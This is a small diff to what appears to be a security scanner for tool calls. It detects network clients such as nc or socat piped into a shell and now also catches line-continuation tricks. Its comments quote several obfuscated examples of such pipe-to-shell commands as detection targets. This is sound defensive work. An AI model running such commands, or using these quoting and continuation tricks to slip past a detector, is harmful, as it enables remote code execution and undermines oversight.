@@ -100,8 +100,9 @@ def _fed_by_network(name: str, call: ToolCall) -> Finding | None:
     found = _CLIENT_INTO_SHELL.search(text)
     if found is None and ("'" in text or '"' in text or "\\" in text):
         # `"socat" tcp:h:p - | sh`, `n''c h p | sh`, `\nc h p | bash`: the same names to the
-        # shell. Without its quotes the text can only show more such pipes, never fewer.
-        bare = text.replace("$'", "'")
+        # shell, and so is `nc \<newline>h p | sh` (a line continuation is no newline).
+        # Without its quotes the text can only show more such pipes, never fewer.
+        bare = text.replace("\\\n", "").replace("$'", "'")
         for quote in ("'", '"', "\\"):
             bare = bare.replace(quote, "")
         found = _CLIENT_INTO_SHELL.search(bare)
